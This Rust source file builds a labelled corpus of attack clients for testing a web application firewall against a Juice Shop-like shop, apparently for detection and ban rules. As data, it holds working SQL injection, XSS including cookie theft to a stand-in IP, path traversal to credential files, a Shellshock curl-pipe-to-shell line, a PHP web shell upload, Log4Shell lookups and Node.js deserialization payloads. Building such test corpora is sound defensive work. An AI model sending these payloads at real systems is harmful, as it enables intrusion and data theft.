//! Attack traffic against the same shop: what people actually send at Juice Shop-like apps
//! (its SQL-injection, XSS, SSRF/RFI and NoSQL/Node.js challenges, login bypasses) and what
//! scanners send, one client per source address. Some clients attack once, some several
//! times, some mix classes, some browse normally first; some attack the detection-only host
//! (the WAF logs but does not block there).

use super::{
    Expect,
    http::{Request, encode, json_str},
};

/// One attacking client's requests with its label.
pub struct Attacker {
    pub why: &'static str,
    pub expect: Expect,
    /// Sent to the detection-only host instead of the blocking one.
    pub detection_only: bool,
    pub requests: Vec<Request>,
}

const UA: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const CURL: &str = "curl/8.5.0";

fn get(target: &str) -> Request {
    Request::new("GET", target)
        .header("User-Agent", UA)
        .header("Accept", "application/json, text/plain, */*")
}

fn search(q: &str) -> Request {
    get(&format!("/rest/products/search?q={}", encode(q)))
}

fn login(email: &str) -> Request {
    Request::new("POST", "/rest/user/login")
        .header("User-Agent", UA)
        .header("Accept", "application/json, text/plain, */*")
        .json(&format!(
            "{{\"email\":{},\"password\":\"x\"}}",
            json_str(email)
        ))
}

fn api(method: &str, target: &str, body: &str) -> Request {
    Request::new(method, target)
        .header("User-Agent", CURL)
        .header("Accept", "*/*")
        .json(body)
}

fn times(n: usize, f: impl Fn(usize) -> Request) -> Vec<Request> {
    (0..n).map(f).collect()
}

fn blocked(why: &'static str, requests: Vec<Request>) -> Attacker {
    Attacker {
        why,
        expect: Expect::Ban,
        detection_only: false,
        requests,
    }
}

fn detection_only(why: &'static str, expect: Expect, requests: Vec<Request>) -> Attacker {
    Attacker {
        why,
        expect,
        detection_only: true,
        requests,
    }
}

const SQLI: &[&str] = &[
    "qwert')) UNION SELECT id, email, password, '4', '5', '6', '7', '8', '9' FROM Users--",
    "1' AND SLEEP(5)--",
    "')) OR 1=1--",
    "apple' AND 1=CONVERT(int,(SELECT @@version))--",
    "1; DROP TABLE Users--",
    "' UNION SELECT sql FROM sqlite_master--",
    "banana' OR 'a'='a",
    "1' ORDER BY 10--",
];

const XSS: &[&str] = &[
    "<iframe src=\"javascript:alert(`xss`)\">",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    "<script>fetch('//198.51.100.7/?c='+document.cookie)</script>",
    "<body onload=alert('xss')>",
    "javascript:alert(1)//",
];

const LFI: &[&str] = &[
    "../../../../etc/passwd",
    "....//....//....//etc/shadow",
    "/proc/self/environ",
    "..\\..\\..\\windows\\win.ini",
    "../../../../../../etc/hosts",
];

/// The attack corpus, one entry per client.
pub fn attackers() -> Vec<Attacker> {
    vec![
        blocked(
            "SQLi login bypass (942100), once",
            vec![login("' OR 1=1--")],
        ),
        blocked(
            "SQLi login bypass (942100), three times within a minute",
            times(3, |i| {
                login(["' OR 1=1--", "' or true--", "admin' OR '1'='1'--"][i])
            }),
        ),
        blocked(
            "SQLi login as admin (admin@juice-sh.op'--), twice",
            times(2, |_| login("admin@juice-sh.op'--")),
        ),
        blocked(
            "SQLi UNION SELECT on the product search (the Juice Shop user-table dump), once",
            vec![search(SQLI[0])],
        ),
        blocked(
            "SQLi probing of search and product ids, eight requests",
            times(8, |i| {
                if i % 2 == 0 {
                    search(SQLI[i % SQLI.len()])
                } else {
                    get(&format!("/api/Products/{}", encode(SQLI[i % SQLI.len()])))
                }
            }),
        ),
        blocked(
            "SQLi in a cookie, twice",
            times(2, |_| {
                get("/rest/basket/1").header("Cookie", "language=en' AND SLEEP(5)--; token=x")
            }),
        ),
        blocked(
            "SQLi in a JSON review body, once",
            vec![api(
                "PUT",
                "/rest/products/1/reviews",
                "{\"message\":\"1' or '1'='1' --\",\"author\":\"x\"}",
            )],
        ),
        blocked(
            "XSS in the search (DOM XSS challenge payload), once",
            vec![search(XSS[0])],
        ),
        blocked(
            "stored XSS: a user registered with an iframe as e-mail, then feedback with a script",
            vec![
                api(
                    "POST",
                    "/api/Users/",
                    &format!(
                        "{{\"email\":{},\"password\":\"xss\",\"passwordRepeat\":\"xss\"}}",
                        json_str(XSS[0])
                    ),
                ),
                api(
                    "POST",
                    "/api/Feedbacks/",
                    "{\"comment\":\"<<script>Foo</script>iframe src=\\\"javascript:alert(`xss`)\\\">\",\"rating\":1}",
                ),
            ],
        ),
        blocked("XSS, four payloads", times(4, |i| search(XSS[1 + i]))),
        blocked(
            "XSS in the Referer header, once",
            vec![get("/").header(
                "Referer",
                "http://shop.example/\"><script>alert(1)</script>",
            )],
        ),
        blocked(
            "RCE: ;cat /etc/passwd in a query, once",
            vec![get(&format!(
                "/rest/track-order?id={}",
                encode("5267;cat /etc/passwd")
            ))],
        ),
        blocked(
            "RCE: command chaining with ping/nslookup (932105), three times",
            times(3, |i| {
                get(&format!(
                    "/api/Products?q={}",
                    encode(
                        [
                            "1|| ping -c 3 198.51.100.7",
                            "x; nslookup attacker.example",
                            "y && sleep 10"
                        ][i]
                    )
                ))
            }),
        ),
        blocked(
            "RCE: Shellshock in the User-Agent, once",
            vec![
                Request::new("GET", "/cgi-bin/status")
                    .header(
                        "User-Agent",
                        "() { :; }; /bin/bash -c \"curl http://198.51.100.7/x | sh\"",
                    )
                    .header("Accept", "*/*"),
            ],
        ),
        blocked(
            "RCE: $(...) and backticks, twice",
            vec![
                get(&format!("/rest/products/search?q={}", encode("$(id)"))),
                get(&format!("/rest/products/search?q={}", encode("`uname -a`"))),
            ],
        ),
        blocked(
            "RCE: Windows commands, twice",
            times(2, |i| {
                get(&format!(
                    "/api/Products?q={}",
                    encode(
                        [
                            "x | type C:\\Windows\\win.ini",
                            "& powershell -enc SQBFAFgA"
                        ][i]
                    )
                ))
            }),
        ),
        blocked(
            "LFI: /etc/passwd traversal, once",
            vec![get(&format!("/ftp?file={}", encode(LFI[0])))],
        ),
        blocked(
            "LFI: four traversal payloads",
            times(4, |i| get(&format!("/ftp?file={}", encode(LFI[1 + i])))),
        ),
        blocked(
            "RFI: URL with a trailing question mark (931120), three times",
            times(3, |i| {
                get(&format!(
                    "/redirect?to={}",
                    encode(
                        [
                            "http://evil.example/shell.txt?",
                            "https://evil.example/x.php?",
                            "http://attacker.example/c99.txt?"
                        ][i]
                    )
                ))
            }),
        ),
        blocked(
            "RFI/SSRF: profile image from an IP-address URL (931100), once",
            vec![
                Request::new("POST", "/profile/image/url")
                    .header("User-Agent", UA)
                    .header("Accept", "*/*")
                    .form("imageUrl=http%3A%2F%2F198.51.100.7%2Fshell.txt%3F"),
            ],
        ),
        blocked(
            "PHP code in a review, once",
            vec![api(
                "PUT",
                "/rest/products/3/reviews",
                "{\"message\":\"<?php system($_GET['c']); ?>\",\"author\":\"x\"}",
            )],
        ),
        blocked(
            "PHP: php://filter and phpinfo(), three requests",
            vec![
                get(&format!(
                    "/ftp?file={}",
                    encode("php://filter/convert.base64-encode/resource=index.php")
                )),
                get(&format!("/rest/products/search?q={}", encode("phpinfo();"))),
                get(&format!(
                    "/api/Products?cfg={}",
                    encode("allow_url_include=On")
                )),
            ],
        ),
        blocked(
            "PHP web shell upload (shell.php), once",
            vec![
                Request::new("POST", "/file-upload")
                    .header("User-Agent", UA)
                    .header("Accept", "*/*")
                    .multipart(
                        &[],
                        (
                            "file",
                            "shell.php",
                            "application/x-php",
                            b"<?php echo shell_exec($_GET['cmd']); ?>",
                        ),
                        "----x1",
                    ),
            ],
        ),
        Attacker {
            why: "Java: Log4Shell JNDI lookups in headers, twice (CRS 3.3.4 has no rule for them: nothing is logged)",
            expect: Expect::Either,
            detection_only: false,
            requests: times(2, |i| {
                get("/")
                    .header("X-Api-Version", "${jndi:ldap://198.51.100.7:1389/a}")
                    .header(
                        "X-Forwarded-Host",
                        [
                            "${jndi:ldap://x.example/b}",
                            "${${lower:j}ndi:rmi://x.example/c}",
                        ][i],
                    )
            }),
        },
        blocked(
            "Java: java.lang.Runtime in a parameter, once",
            vec![get(&format!(
                "/api/Products?q={}",
                encode("java.lang.Runtime.getRuntime().exec(\"id\")")
            ))],
        ),
        blocked(
            "Node.js: node-serialize RCE payload, once",
            vec![api(
                "POST",
                "/rest/user/data-export",
                "{\"format\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
            )],
        ),
        blocked(
            "session fixation via a Set-Cookie meta tag, once",
            vec![get(&format!(
                "/rest/products/search?q={}",
                encode("<meta http-equiv=\"Set-Cookie\" content=\"token=attacker\">")
            ))],
        ),
        blocked(
            "scanner: Nikto, ten requests",
            times(10, |i| {
                Request::new(
                    "GET",
                    [
                        "/",
                        "/admin",
                        "/.git/HEAD",
                        "/.env",
                        "/backup.zip",
                        "/phpinfo.php",
                        "/server-status",
                        "/wp-login.php",
                        "/ftp/",
                        "/api-docs",
                    ][i],
                )
                .header(
                    "User-Agent",
                    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
                )
                .header("Accept", "*/*")
            }),
        ),
        Attacker {
            why: "scanner: sqlmap user agent, once (a scanner class only, not a high-confidence attack)",
            expect: Expect::Either,
            detection_only: false,
            requests: vec![
                Request::new("GET", "/rest/products/search?q=apple")
                    .header("User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)")
                    .header("Accept", "*/*"),
            ],
        },
        Attacker {
            why: "scanner: Nmap NSE, twice (a scanner class only, not a high-confidence attack)",
            expect: Expect::Either,
            detection_only: false,
            requests: times(2, |i| {
                Request::new("GET", ["/", "/nmaplowercheck1732"][i])
                    .header("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
            }),
        },
        blocked(
            "manual attacker trying SQLi, XSS, LFI and RCE on several endpoints, twelve requests",
            times(12, |i| match i % 4 {
                0 => search(SQLI[i % SQLI.len()]),
                1 => search(XSS[i % XSS.len()]),
                2 => get(&format!("/ftp?file={}", encode(LFI[i % LFI.len()]))),
                _ => get(&format!("/api/Products?q={}", encode(";cat /etc/passwd"))),
            }),
        ),
        Attacker {
            why: "browses like a shopper, then one SQLi login bypass",
            expect: Expect::Ban,
            detection_only: false,
            requests: shopper_then(vec![login("' OR 1=1--")]),
        },
        Attacker {
            why: "browses like a shopper, then three XSS searches",
            expect: Expect::Ban,
            detection_only: false,
            requests: shopper_then(times(3, |i| search(XSS[i]))),
        },
        detection_only(
            "one SQLi on the detection-only host (logged, not blocked)",
            Expect::Either,
            vec![login("' OR 1=1--")],
        ),
        detection_only(
            "SQLi probing on the detection-only host, six requests",
            Expect::Ban,
            times(6, |i| search(SQLI[i % SQLI.len()])),
        ),
        detection_only(
            "two XSS on the detection-only host",
            Expect::Either,
            times(2, |i| search(XSS[1 + i])),
        ),
        detection_only(
            "a multi-class scan on the detection-only host, ten requests",
            Expect::Ban,
            times(10, |i| match i % 3 {
                0 => search(SQLI[i % SQLI.len()]),
                1 => search(XSS[i % XSS.len()]),
                _ => get(&format!("/ftp?file={}", encode(LFI[i % LFI.len()]))),
            }),
        ),
        Attacker {
            why: "protocol anomalies and a smuggling attempt only (no high-confidence class)",
            expect: Expect::Either,
            detection_only: false,
            requests: vec![
                Request::new("GET", "/")
                    .header("User-Agent", "x")
                    .header("Accept", "*/*")
                    .body("text/plain", "hello"),
                get(&format!("/?a={}", "%00")),
                Request::new("POST", "/rest/user/login")
                    .header("User-Agent", "x")
                    .header("Accept", "*/*")
                    .form("a=1\r\n\r\nGET /admin HTTP/1.1\r\nHost: shop.example\r\n\r\n"),
            ],
        },
    ]
}

/// A short shopping visit followed by `attack`.
fn shopper_then(attack: Vec<Request>) -> Vec<Request> {
    let mut out = vec![
        get("/").header("Accept", "text/html"),
        get("/main.js"),
        get("/rest/admin/application-configuration"),
        get("/rest/products/search?q="),
        search("apple juice"),
        get("/api/Products/1"),
        get("/rest/products/1/reviews"),
    ];
    out.extend(attack);
    out
}
